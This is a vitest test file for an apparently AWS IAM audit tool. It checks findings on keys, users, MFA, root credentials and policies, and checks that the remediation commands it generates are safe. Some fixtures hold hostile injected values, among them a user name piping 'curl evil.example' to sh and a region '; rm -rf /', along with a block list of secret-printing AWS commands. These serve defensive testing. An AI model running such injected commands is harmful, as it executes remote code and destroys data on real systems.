/**
 * Mistakes that users of other tools have complained of for years, about keys, users, MFA, root and passwords. Each
 * test is a mistake that ours must not make.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { audit } from '../audit.ts'
import { loadSnapshots } from '../collect/saved/load.ts'
import { buildDossiers } from '../dossiers.ts'
import { DEFAULT_CONFIG } from '../model/config.ts'
import { FACTS } from '../model/facts.ts'
import type { Snapshot } from '../model/snapshot.ts'
import type { Check } from './check.ts'
import { type AccountSketch, daysAgo, EXAMPLE_ACCOUNT, EXAMPLE_TIME, exampleSnapshot } from './example.ts'
import { CHECKS } from './index.ts'
import { type CheckResults, isFact, runChecks } from './run.ts'

const check = (id: string): Check => {
  const found = CHECKS.find((candidate) => candidate.id === id)
  if (!found) throw new Error(`there is no check ${id}`)
  return found
}

function runOn(snapshot: Snapshot, ...ids: string[]): CheckResults {
  return runChecks(ids.map(check), { snapshot, dossiers: buildDossiers(snapshot) }, DEFAULT_CONFIG, () => ({}))
}

function run(account: AccountSketch, ...ids: string[]): CheckResults {
  return runOn(exampleSnapshot(account), ...ids)
}

const told = ({ findings }: CheckResults) => findings.map(({ check, subject }) => `${check} ${subject.id}`).sort()

const NEVER = { date: null, region: null, serviceName: null }
const used = (days: number) => ({ date: daysAgo(days), region: 'eu-west-1', serviceName: 's3' })
const PASSWORD = { enabled: true, lastUsed: daysAgo(2), lastChanged: daysAgo(30), nextRotation: null }
const ADMIN = { policyName: 'AdministratorAccess', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }
const iam = (what: string) => `arn:aws:iam::${EXAMPLE_ACCOUNT}:${what}`

const KEY_CHECKS = CHECKS.filter(({ id }) => id.startsWith('key-')).map(({ id }) => id)
const USER_CHECKS = CHECKS.filter(({ id }) => id.startsWith('user-') || id.startsWith('admin-')).map(({ id }) => id)

describe('a credential report four hours old', () => {
  const folder = mkdtempSync(join(tmpdir(), 'keyreeve-'))
  afterAll(() => rmSync(folder, { recursive: true }))
  const file = (name: string, text: string) => {
    const path = join(folder, name)
    writeFileSync(path, text)
    return path
  }
  const detailsOf = (...names: string[]) =>
    JSON.stringify({
      UserDetailList: names.map((name, i) => ({
        Path: '/',
        UserName: name,
        UserId: `AIDAEXAMPLE000000000${i}`,
        Arn: iam(`user/${name}`),
        CreateDate: '2025-01-01T00:00:00+00:00',
        GroupList: [],
        AttachedManagedPolicies: [],
      })),
      GroupDetailList: [],
      RoleDetailList: [],
      Policies: [],
    })
  const HEADER =
    'user,arn,user_creation_time,password_enabled,password_last_used,password_last_changed,password_next_rotation,mfa_active,access_key_1_active,access_key_1_last_rotated,access_key_1_last_used_date,access_key_1_last_used_region,access_key_1_last_used_service,access_key_2_active,access_key_2_last_rotated,access_key_2_last_used_date,access_key_2_last_used_region,access_key_2_last_used_service,cert_1_active,cert_1_last_rotated,cert_2_active,cert_2_last_rotated'
  const reportOf = (...names: string[]) =>
    [
      HEADER,
      ...names.map(
        (name) =>
          `${name},${iam(`user/${name}`)},2025-01-01T00:00:00+00:00,true,2025-02-01T00:00:00+00:00,2025-01-01T00:00:00+00:00,N/A,false,true,2025-01-01T00:00:00+00:00,2025-02-01T00:00:00+00:00,eu-west-1,s3,false,N/A,N/A,N/A,N/A,true,2025-01-01T00:00:00+00:00,false,N/A`,
      ),
    ].join('\n')

  it('brings no finding on a user who has been deleted since', async () => {
    const { snapshots } = await loadSnapshots(
      [file('details.json', detailsOf('ana')), file('report.csv', reportOf('ana', 'gone'))],
      { toolVersion: '0', asOf: '2026-11-01' },
    )
    const { findings } = audit(snapshots, { tool: { name: 'keyreeve', version: '0' } })
    expect(findings.some(({ subject }) => subject.name === 'ana')).toBe(true)
    expect(JSON.stringify(findings)).not.toContain('gone')
  })

  it('says of a user who is not in it yet that it is not known, and does not pass it', async () => {
    const { snapshots } = await loadSnapshots(
      [file('details2.json', detailsOf('ana', 'new')), file('report2.csv', reportOf('ana'))],
      { toolVersion: '0', asOf: '2026-11-01' },
    )
    const { notEvaluated } = runOn(snapshots[0]!, 'user-console-mfa')
    expect(notEvaluated.map(({ because }) => because).join()).toContain('new')
    expect(notEvaluated.every(({ extent }) => extent === 'part')).toBe(true)
  })

  it('does not outweigh an MFA device that is registered now', () => {
    const account = {
      users: [{ userName: 'ana', password: PASSWORD, mfaActive: false, attachedPolicies: [ADMIN] }],
      mfaDevices: [{ userName: 'ana', kind: 'virtual' as const }],
    }
    expect(told(run(account, 'user-console-mfa', 'admin-mfa'))).toEqual([])
  })

  it('does not bring back a root key that the account summary no longer counts', () => {
    const { findings, notEvaluated } = run(
      { root: { accessKeysPresent: false }, accessKeys: [{ userName: null, accessKeyId: null }] },
      'root-access-key',
    )
    expect(findings).toEqual([])
    expect(notEvaluated).toMatchObject([{ check: 'root-access-key', extent: 'part' }])
  })

  it('says in the evidence when it was true', () => {
    const snapshot = exampleSnapshot({
      users: [{ userName: 'ana' }],
      accessKeys: [{ userName: 'ana', createDate: daysAgo(300), lastUsed: used(100) }],
    })
    const generated = '2026-11-01T08:30:00Z'
    for (const line of snapshot.coverage) if (line.source === 'iam:GetCredentialReport') line.asOf = generated
    const [finding] = runOn(snapshot, 'key-unused').findings
    expect(finding?.evidence).toEqual([
      { fact: 'last used', value: daysAgo(100), source: 'iam:GetCredentialReport', asOf: generated },
    ])
  })
})

describe('findings on access keys', () => {
  const twoKeys = (first: object, second: object): AccountSketch => ({
    users: [{ userName: 'ana' }],
    accessKeys: [
      { userName: 'ana', accessKeyId: 'AKIAEXAMPLEFIRST', slot: 1, ...first },
      { userName: 'ana', accessKeyId: 'AKIAEXAMPLESECOND', slot: 2, ...second },
    ],
  })

  it('name the key, not the user', () => {
    const account = twoKeys(
      { createDate: daysAgo(300), lastUsed: used(100) },
      { createDate: daysAgo(200), lastUsed: NEVER },
    )
    const { findings } = run(account, ...KEY_CHECKS)
    expect(findings.length).toBeGreaterThan(4)
    for (const { subject } of findings) {
      expect(subject.kind).toBe('access-key')
      expect(subject.id).toMatch(/^AKIAEXAMPLE(FIRST|SECOND)$/)
      expect(subject.name).toBe('ana')
    }
  })

  it('keep the finding of the first key when the second has one too', () => {
    const account = twoKeys({ createDate: daysAgo(300) }, { createDate: daysAgo(200) })
    expect(told(run(account, 'key-age'))).toEqual(['key-age AKIAEXAMPLEFIRST', 'key-age AKIAEXAMPLESECOND'])
  })

  it('keep the keys apart when only the credential report was read', () => {
    const account = twoKeys(
      { accessKeyId: null, createDate: daysAgo(300) },
      { accessKeyId: null, createDate: daysAgo(200) },
    )
    const { findings } = run(account, 'key-age')
    expect(findings.map(({ subject }) => subject.id)).toEqual([iam('user/ana#1'), iam('user/ana#2')])
    expect(new Set(findings.map(({ fingerprint }) => fingerprint)).size).toBe(2)
  })

  it('have the same fingerprint tomorrow, whatever the age', () => {
    const at = (age: number) =>
      run({ users: [{ userName: 'ana' }], accessKeys: [{ userName: 'ana', createDate: daysAgo(age) }] }, 'key-age')
        .findings[0]?.fingerprint
    expect(at(100)).toBeDefined()
    expect(at(100)).toBe(at(101))
  })

  it('leave inactive keys out of the 90 days, whatever their age', () => {
    const account = twoKeys(
      { createDate: daysAgo(2000), status: 'Inactive', lastUsed: used(1900) },
      { createDate: daysAgo(10) },
    )
    expect(
      told(run(account, 'key-age', 'key-unused', 'key-never-used', 'key-two-active', 'key-of-console-user')),
    ).toEqual([])
    expect(told(run(account, 'key-inactive-kept'))).toEqual(['key-inactive-kept AKIAEXAMPLEFIRST'])
  })

  it('give a key made yesterday time for its first use', () => {
    const account = {
      users: [{ userName: 'ana' }],
      accessKeys: [{ userName: 'ana', createDate: daysAgo(1), lastUsed: NEVER }],
    }
    expect(told(run(account, ...KEY_CHECKS, 'user-unused', 'user-dead'))).toEqual([])
  })

  it('give a rotation time, and then name the key to retire and no other', () => {
    const rotation = (days: number) =>
      told(
        run(
          twoKeys({ createDate: daysAgo(85), lastUsed: used(1) }, { createDate: daysAgo(days), lastUsed: used(0) }),
          ...KEY_CHECKS,
        ),
      )
    expect(rotation(3)).toEqual([])
    expect(rotation(7)).toEqual([])
    expect(rotation(8)).toEqual(['key-two-active AKIAEXAMPLEFIRST'])
  })

  it('never propose to end the key in production because the other one is idle', () => {
    const account = twoKeys(
      { createDate: daysAgo(80), lastUsed: used(0) },
      { createDate: daysAgo(70), lastUsed: used(60) },
    )
    const { findings } = run(account, ...KEY_CHECKS)
    expect(findings.map(({ subject }) => subject.id)).toEqual(['AKIAEXAMPLESECOND', 'AKIAEXAMPLESECOND'])
    for (const { remedy } of findings) expect(remedy.commands.join('\n')).not.toContain('AKIAEXAMPLEFIRST')
  })

  it('do not call a key unused that was used the same day, however old it is', () => {
    const account = twoKeys(
      { createDate: daysAgo(1000), lastUsed: used(0) },
      { status: 'Inactive', createDate: daysAgo(1) },
    )
    expect(told(run(account, 'key-unused', 'key-never-used', 'user-unused', 'user-dead'))).toEqual([])
  })

  it('tell "unused" from "old": each by its own date', () => {
    const account = twoKeys(
      { createDate: daysAgo(400), lastUsed: used(0) },
      { createDate: daysAgo(60), lastUsed: used(50) },
    )
    expect(told(run(account, 'key-age', 'key-unused'))).toEqual([
      'key-age AKIAEXAMPLEFIRST',
      'key-unused AKIAEXAMPLESECOND',
    ])
  })

  it('say the key in every command, and look before they act', () => {
    const account = twoKeys(
      { createDate: daysAgo(300), lastUsed: used(100) },
      { createDate: daysAgo(200), lastUsed: NEVER },
    )
    for (const { subject, remedy } of run(account, 'key-unused', 'key-never-used', 'key-age').findings) {
      expect(remedy.commands[0]).toBe(`aws iam get-access-key-last-used --access-key-id ${subject.id}`)
      expect(remedy.commands.at(-1)).toBe(
        `aws iam update-access-key --user-name ana --access-key-id ${subject.id} --status Inactive`,
      )
    }
  })

  it('never hand out the command that stops a key in use', () => {
    const account = twoKeys(
      { createDate: daysAgo(300), lastUsed: used(4) },
      { createDate: daysAgo(200), lastUsed: used(0) },
    )
    const { findings } = run(account, 'key-age', 'key-two-active')
    expect(findings).toHaveLength(3)
    for (const { remedy } of findings) expect(remedy.commands.join('\n')).not.toContain('Inactive')
  })

  it('look for recent calls where the key was used, as CloudTrail answers by region', () => {
    const lookups = (region: string | null) =>
      run(
        twoKeys({ createDate: daysAgo(300), lastUsed: { date: daysAgo(1), region, serviceName: 'iam' } }, {}),
        'key-age',
      ).findings[0]!.remedy.commands[1]
    expect(lookups('eu-west-1')).toMatch(/^aws cloudtrail lookup-events .* --region eu-west-1$/)
    expect(lookups('us-gov-east-1')).toMatch(/ --region us-gov-east-1$/)
    for (const region of [null, 'aws-global', 'N/A', '; rm -rf /']) expect(lookups(region)).not.toContain('--region')
  })

  it('do not ask to deactivate an exposed key that is inactive', () => {
    const quarantined = { policyName: 'AWSCompromisedKeyQuarantineV3', policyArn: 'arn:aws:iam::aws:policy/x' }
    const { findings } = run(
      {
        users: [{ userName: 'ana', attachedPolicies: [quarantined] }],
        accessKeys: [{ userName: 'ana', accessKeyId: 'AKIAEXAMPLEFIRST', status: 'Inactive' }],
      },
      'key-quarantined',
    )
    expect(findings[0]?.remedy.text).not.toMatch(/^Deactivate/)
    expect(findings[0]?.remedy.commands.at(-1)).toBe(
      'aws iam delete-access-key --user-name ana --access-key-id AKIAEXAMPLEFIRST',
    )
  })
})

describe('commands', () => {
  const findings = CHECKS.flatMap((each) =>
    each.examples.flagged.flatMap(
      ({ account, config }) =>
        runChecks(
          [each],
          { snapshot: exampleSnapshot(account), dossiers: buildDossiers(exampleSnapshot(account)) },
          {
            ...DEFAULT_CONFIG,
            ...config,
            checks: { [each.id]: true },
            thresholds: { ...DEFAULT_CONFIG.thresholds, ...config?.thresholds },
          },
          () => ({}),
        ).findings,
    ),
  )
  const commands = findings.flatMap(({ remedy }) => remedy.commands)

  it('never print a secret', () => {
    expect(commands.length).toBeGreaterThan(20)
    for (const command of commands)
      expect(command).not.toMatch(
        /create-access-key|create-service-specific-credential|reset-service-specific-credential|get-session-token|sts assume|create-login-profile/,
      )
  })

  it('have no placeholder left to fill in', () => {
    for (const command of commands) expect(command).not.toMatch(/undefined|null|NaN|<[a-z-]+>|\[object/)
  })

  it('keep a hostile name within its quotes', () => {
    const userName = "x'; curl evil.example | sh; echo '\u001b]0;"
    const { findings } = run(
      {
        users: [{ userName, arn: iam('user/x'), password: PASSWORD, attachedPolicies: [ADMIN] }],
        accessKeys: [{ userName, createDate: daysAgo(300), lastUsed: used(100) }],
      },
      ...KEY_CHECKS,
      ...USER_CHECKS,
    )
    const said = findings.flatMap(({ remedy }) => remedy.commands).filter((command) => command.includes('evil'))
    expect(said.length).toBeGreaterThan(2)
    for (const command of said) expect(command).toContain(`'x'\\''; curl evil.example | sh; echo '\\''?]0;'`)
  })

  it('set the whole password policy, because AWS resets what is left out', () => {
    const [finding] = run(
      {
        users: [{ userName: 'ana', password: PASSWORD }],
        passwordPolicy: { minimumPasswordLength: 20, requireSymbols: false, maxPasswordAge: 30, hardExpiry: true },
      },
      'password-policy-symbol',
    ).findings
    expect(finding?.remedy.commands).toEqual([
      'aws iam update-account-password-policy --minimum-password-length 20 --require-symbols --require-numbers --require-uppercase-characters --require-lowercase-characters --allow-users-to-change-password --max-password-age 30 --password-reuse-prevention 24 --hard-expiry',
    ])
  })
})

describe('an expiry of passwords', () => {
  it('is set by no command once its check is switched off', () => {
    const snapshot = exampleSnapshot({
      users: [{ userName: 'ana', password: PASSWORD }],
      passwordPolicy: { minimumPasswordLength: 8, maxPasswordAge: null },
    })
    const checks = { 'password-policy-expiry': false }
    const { findings } = runChecks(
      CHECKS.filter(({ id }) => id.startsWith('password-policy-')),
      { snapshot, dossiers: buildDossiers(snapshot) },
      { ...DEFAULT_CONFIG, checks },
      () => ({}),
    )
    expect(told({ findings, notEvaluated: [] })).toEqual([`password-policy-length ${EXAMPLE_ACCOUNT}`])
    expect(findings[0]?.remedy.commands.join()).toContain('--minimum-password-length 14')
    expect(findings[0]?.remedy.commands.join()).not.toContain('--max-password-age')
  })
})

describe('root', () => {
  const REMOVED = {
    mfaActive: false,
    passwordPresent: false,
    accessKeysPresent: false,
    signingCertificatesPresent: false,
    credentialReportRow: true,
  }
  const ROOT_CHECKS = CHECKS.filter(({ group }) => group === 'root').map(({ id }) => id)

  it('needs no MFA once its credentials were removed centrally', () => {
    const { findings, notEvaluated } = run({ root: REMOVED }, ...ROOT_CHECKS)
    expect(findings).toEqual([])
    expect(notEvaluated).toEqual([])
  })

  it('needs MFA as long as anything is left of its credentials', () => {
    for (const left of ['passwordPresent', 'accessKeysPresent', 'signingCertificatesPresent'])
      expect(told(run({ root: { ...REMOVED, [left]: true } }, 'root-mfa')), left).toEqual([`root-mfa ${iam('root')}`])
  })

  it('needs MFA where it is not known that its credentials were removed', () => {
    for (const unknown of ['passwordPresent', 'accessKeysPresent', 'signingCertificatesPresent'])
      expect(told(run({ root: { ...REMOVED, [unknown]: null } }, 'root-mfa')), unknown).toHaveLength(1)
  })
})

describe('the password policy', () => {
  const RULES = CHECKS.filter(({ id }) => id.startsWith('password-policy-')).map(({ id }) => id)
  const WEAK = {
    minimumPasswordLength: 6,
    requireSymbols: false,
    requireNumbers: false,
    requireUppercaseCharacters: false,
    requireLowercaseCharacters: false,
    maxPasswordAge: null,
    passwordReusePrevention: null,
  }

  it('does not matter in an account without IAM users', () => {
    expect(told(run({ passwordPolicy: null }, ...RULES))).toEqual([])
    expect(told(run({ passwordPolicy: WEAK }, ...RULES))).toEqual([])
  })

  it('matters where nobody knows whether there are users', () => {
    const account = { passwordPolicy: null, denied: ['iam:GetCredentialReport', 'iam:GetAccountAuthorizationDetails'] }
    expect(told(run(account, ...RULES))).toEqual([`password-policy-missing ${EXAMPLE_ACCOUNT}`])
  })

  it('is one finding when it is missing, and one for each rule when it is weak', () => {
    const users = [{ userName: 'ana', password: PASSWORD }]
    expect(told(run({ users, passwordPolicy: null }, ...RULES))).toEqual([`password-policy-missing ${EXAMPLE_ACCOUNT}`])
    expect(run({ users, passwordPolicy: WEAK }, ...RULES).findings).toHaveLength(RULES.length - 1)
  })

  it('is not missing because it could not be read', () => {
    const { findings, notEvaluated } = run(
      {
        users: [{ userName: 'ana', password: PASSWORD }],
        passwordPolicy: null,
        denied: ['iam:GetAccountPasswordPolicy'],
      },
      ...RULES,
    )
    expect(findings).toEqual([])
    expect(notEvaluated).toHaveLength(RULES.length)
  })
})

describe('administrators', () => {
  const withPolicy = (...Statement: object[]): AccountSketch => ({
    users: [
      {
        userName: 'ana',
        inlinePolicies: [{ policyName: 'own', policyDocument: { Version: '2012-10-17', Statement } }],
      },
    ],
  })
  const ALL = { Effect: 'Allow', Action: '*', Resource: '*' }
  const isAdmin = (account: AccountSketch) => run(account, 'admin-user').findings.length === 1

  it('stay administrators behind a Deny with a condition, and not behind one without', () => {
    const deny = { Effect: 'Deny', Action: '*', Resource: '*' }
    expect(isAdmin(withPolicy(ALL, { ...deny, Condition: { Bool: { 'aws:SecureTransport': 'false' } } }))).toBe(true)
    expect(isAdmin(withPolicy(ALL, deny))).toBe(false)
    expect(isAdmin(withPolicy(ALL, { Effect: 'Deny', Action: '*', Resource: 'arn:aws:s3:::logs/*' }))).toBe(true)
    expect(isAdmin(withPolicy(ALL, { Effect: 'Deny', Action: '*', NotResource: 'arn:aws:s3:::logs/*' }))).toBe(false)
  })

  it('without MFA are critical only as long as someone can act as them', () => {
    const users = [{ userName: 'ana', attachedPolicies: [ADMIN] }]
    const severity = (account: AccountSketch) => run(account, 'admin-mfa').findings[0]?.severity
    expect(severity({ users, accessKeys: [{ userName: 'ana' }] })).toBe('critical')
    expect(severity({ users: [{ ...users[0]!, password: PASSWORD }] })).toBe('critical')
    expect(severity({ users, accessKeys: [{ userName: 'ana', status: 'Inactive' }] })).toBe('medium')
    expect(severity({ users, denied: ['iam:ListAccessKeys', 'iam:GetCredentialReport'] })).toBeUndefined()
    expect(severity({ users: [{ ...users[0]!, password: null }] })).toBe('critical')
  })

  it('do not depend on the order of statements, or on which policy holds which', () => {
    const deny = { Effect: 'Deny', Action: 'iam:*', Resource: '*' }
    expect(isAdmin(withPolicy(deny, ALL))).toBe(false)
    expect(
      isAdmin({
        users: [{ userName: 'ana', groups: ['admins', 'frozen'] }],
        groups: [
          { groupName: 'admins', attachedPolicies: [ADMIN] },
          { groupName: 'frozen', inlinePolicies: [{ policyName: 'no', policyDocument: { Statement: deny } }] },
        ],
      }),
    ).toBe(false)
  })

  it('are found in the default version of a policy, not in an old one', () => {
    const version = (versionId: string, isDefaultVersion: boolean, action: string) => ({
      versionId,
      isDefaultVersion,
      createDate: null,
      document: { Statement: { Effect: 'Allow', Action: action, Resource: '*' } },
    })
    const account = (oldAction: string, newAction: string): AccountSketch => ({
      users: [{ userName: 'ana', attachedPolicies: [{ policyName: 'p', policyArn: iam('policy/p') }] }],
      policies: [{ policyName: 'p', versions: [version('v1', false, oldAction), version('v2', true, newAction)] }],
    })
    expect(isAdmin(account('*', 's3:*'))).toBe(false)
    expect(isAdmin(account('s3:*', '*'))).toBe(true)
  })

  it('may be anyone with a policy that nobody could read: it is not known, never "no permissions"', () => {
    const lost = [{ policyName: 'lost', policyArn: iam('policy/lost') }]
    for (const account of [
      { users: [{ userName: 'ana', attachedPolicies: lost }] },
      { users: [{ userName: 'ana', groups: ['team'] }], groups: [{ groupName: 'team', attachedPolicies: lost }] },
      { users: [{ userName: 'ana', groups: ['lost'] }] },
      { users: [{ userName: 'ana', attachedPolicies: [ADMIN], permissionsBoundary: iam('policy/lost') }] },
      { users: [{ userName: 'ana', inlinePolicies: [{ policyName: 'lost', policyDocument: '{"Statement": [' }] }] },
      {
        users: [
          {
            userName: 'ana',
            inlinePolicies: [
              {
                policyName: 'lost',
                policyDocument: { Statement: { Effect: 'Allow', Action: '*', Resource: '*', Conditoin: {} } },
              },
            ],
          },
        ],
      },
    ] satisfies AccountSketch[])
      for (const id of ['admin-user', 'admin-count', 'admin-mfa']) {
        const { findings, notEvaluated } = run(account, id)
        expect(findings).toEqual([])
        expect(notEvaluated).toMatchObject([{ check: id, extent: 'part', because: expect.stringContaining('lost') }])
      }
  })

  it('include those of AWS policies by ARN only: the name alone can be anyone’s', () => {
    const own = [{ policyName: 'AdministratorAccess', policyArn: iam('policy/AdministratorAccess') }]
    const { findings, notEvaluated } = run({ users: [{ userName: 'ana', attachedPolicies: own }] }, 'admin-user')
    expect(findings).toEqual([])
    expect(notEvaluated).toHaveLength(1)
  })
})

describe('every check leaves a trace', () => {
  const tool = { name: 'keyreeve', version: '0' }

  it('an internal error is "not evaluated", never "passed", and its message stays inside', () => {
    const broken: Check = {
      ...check('key-age'),
      id: 'broken',
      *run({ dossiers }) {
        for (const { subjectId } of dossiers) {
          yield {
            subject: { kind: 'access-key', id: subjectId, arn: null, name: null },
            because: 'x',
            evidence: [],
          }
          throw new TypeError('cannot read hunter2')
        }
      },
    }
    const snapshot = exampleSnapshot({
      users: [{ userName: 'ana' }],
      accessKeys: [{ userName: 'ana', createDate: daysAgo(300) }],
    })
    const results = runChecks(
      [broken, check('key-age')],
      { snapshot, dossiers: buildDossiers(snapshot) },
      DEFAULT_CONFIG,
      () => ({}),
    )
    expect(results.notEvaluated).toMatchObject([{ check: 'broken', extent: 'all' }])
    expect(told(results)).toEqual(['key-age AKIAEXAMPLE000000001'])
    expect(JSON.stringify(results)).not.toContain('hunter2')
  })

  it('a date that is none is neither old nor young', () => {
    const { findings, notEvaluated } = run({ root: { passwordLastUsed: 'never' } }, 'root-used')
    expect(findings).toEqual([])
    expect(notEvaluated).toMatchObject([{ check: 'root-used', extent: 'all' }])
  })

  it('with any one source denied, each check that needs it says so, and none that does not', () => {
    for (const source of new Set<string>(Object.values(FACTS).flat(2))) {
      const snapshot = exampleSnapshot({ denied: [source] })
      const { notEvaluated, summary } = audit([snapshot], { tool })
      const blind = CHECKS.filter(
        ({ needs, off }) =>
          !off && needs.some((need) => isFact(need) && FACTS[need].every((all) => all.some((one) => one === source))),
      )
      const silent = new Set(notEvaluated.map(({ check }) => check))
      expect([...silent].sort(), source).toEqual(expect.arrayContaining(blind.map(({ id }) => id)))
      for (const { check: id, because, otherEvidence } of notEvaluated)
        if (!otherEvidence) expect(because, `${id} of ${source}`).toContain(source)
      expect(summary.checks.evaluated + summary.checks.notEvaluated).toBe(CHECKS.filter(({ off }) => !off).length)
    }
  })

  it('a source that the ledger does not name, or names wrongly, was not read', () => {
    const account = { users: [{ userName: 'ana' }], accessKeys: [{ userName: 'ana', createDate: daysAgo(300) }] }
    const absent = exampleSnapshot(account)
    absent.coverage = []
    const misspelt = exampleSnapshot(account)
    for (const line of misspelt.coverage) line.source = line.source.replace(':', '.')
    for (const snapshot of [absent, misspelt]) {
      const { findings, notEvaluated, summary } = audit([snapshot], { tool })
      expect(findings).toEqual([])
      expect(new Set(notEvaluated.map(({ check }) => check)).size).toBe(CHECKS.filter(({ off }) => !off).length)
      expect(summary.checks.evaluated).toBe(0)
    }
  })

  it('a group is not empty, and a user not dead, because the list was cut off', () => {
    const snapshot = exampleSnapshot({ groups: [{ groupName: 'staff' }], users: [{ userName: 'ana' }] })
    for (const line of snapshot.coverage)
      if (['iam:GetAccountAuthorizationDetails', 'iam:ListSSHPublicKeys'].includes(line.source))
        line.status = 'truncated'
    const { findings, notEvaluated } = runOn(snapshot, 'group-empty', 'user-dead')
    expect(findings).toEqual([])
    expect(new Set(notEvaluated.map(({ check }) => check))).toEqual(new Set(['group-empty', 'user-dead']))
  })

  it('an unknown password, MFA state, age or use is said', () => {
    const unknown = (account: AccountSketch, ...ids: string[]) => {
      const { findings, notEvaluated } = run(account, ...ids)
      expect(findings).toEqual([])
      expect(notEvaluated.map(({ check }) => check)).toEqual(ids)
    }
    const users = [{ userName: 'ana', password: null, mfaActive: null }]
    unknown({ users }, 'user-console-mfa', 'user-unused', 'user-dead', 'password-unused')
    unknown({ users, accessKeys: [{ userName: 'ana' }] }, 'key-of-console-user')
    const key = { userName: 'ana', createDate: null, lastUsed: null }
    unknown({ users: [{ userName: 'ana' }], accessKeys: [key] }, 'key-age', 'key-unused', 'key-never-used')
    unknown({ users: [{ userName: 'ana' }], accessKeys: [{ ...key, status: 'Inactive' }] }, 'key-inactive-kept')
    unknown({ users: [{ userName: 'ana' }], accessKeys: [key, { ...key, slot: 2 }] }, 'key-two-active')
    unknown({ root: { mfaActive: null } }, 'root-mfa', 'root-mfa-hardware')
    unknown({ root: { accessKeysPresent: null } }, 'root-access-key')
    unknown({ root: { credentialReportRow: false } }, 'root-used')
    unknown({ serverCertificates: [{ serverCertificateName: 'shop', expiration: null }] }, 'server-certificate-expired')
    unknown({ sshPublicKeys: [{ userName: 'ana', uploadDate: null }] }, 'ssh-key-old')
    unknown(
      { serviceSpecificCredentials: [{ userName: 'ana', serviceName: 'codecommit.amazonaws.com', createDate: null }] },
      'service-credential-old',
    )
  })

  it('what passed is counted as evaluated', () => {
    const { findings, notEvaluated, summary } = audit([exampleSnapshot({})], { tool })
    const flagged = new Set(findings.map(({ check }) => check))
    const missed = new Set(notEvaluated.map(({ check }) => check))
    const enabled = CHECKS.filter(({ off }) => !off)
    // what only a scan or CloudTrail would tell is asked of neither here
    const others = enabled.filter(({ needs }) => !needs.every(isFact)).map(({ id }) => id)
    expect(summary.checks).toEqual({ evaluated: enabled.length - others.length, notEvaluated: others.length })
    expect(missed).toEqual(new Set(others))
    expect(enabled.some(({ id }) => !flagged.has(id))).toBe(true)
    expect(audit([exampleSnapshot({})], { tool }).collectedAt).toBe(EXAMPLE_TIME)
  })
})

describe('policies with full access', () => {
  const statement = (Effect: string, more: object = {}) => ({ Effect, Action: '*', Resource: '*', ...more })
  const verdictOn = (...Statement: object[]) =>
    run(
      {
        users: [{ userName: 'ana', inlinePolicies: [{ policyName: 'all', policyDocument: { Statement } }] }],
      },
      'policy-full-admin',
    ).findings.map(({ because }) => because)

  it('say of a Deny where and when it holds: a Deny of some is not a Deny of all', () => {
    expect(verdictOn(statement('Allow'), statement('Deny'))).toEqual([])
    expect(verdictOn(statement('Allow'), statement('Deny', { Resource: 'arn:aws:s3:::logs/*' }))).toEqual([
      'inline policy all allows every action on every resource, less what it denies: * on some resources',
    ])
    const withoutMfa = { Condition: { BoolIfExists: { 'aws:MultiFactorAuthPresent': 'false' } } }
    expect(verdictOn(statement('Allow'), statement('Deny', withoutMfa))).toEqual([
      'inline policy all allows every action on every resource, less what it denies: *, under a condition on aws:MultiFactorAuthPresent',
    ])
  })

  it('are no danger as a boundary: it gives nothing', () => {
    const findingOn = (permissionsBoundaryUsageCount: number, attachmentCount: number) =>
      run(
        {
          policies: [
            {
              policyName: 'limit',
              document: { Statement: [statement('Allow')] },
              permissionsBoundaryUsageCount,
              attachmentCount,
            },
          ],
        },
        'policy-full-admin',
      ).findings[0]
    expect(findingOn(2, 0)).toMatchObject({ severity: 'info', because: expect.stringContaining('gives nothing') })
    expect(findingOn(0, 0)?.severity).toBe('medium')
    expect(findingOn(2, 1)?.severity).toBe('high')
  })
})
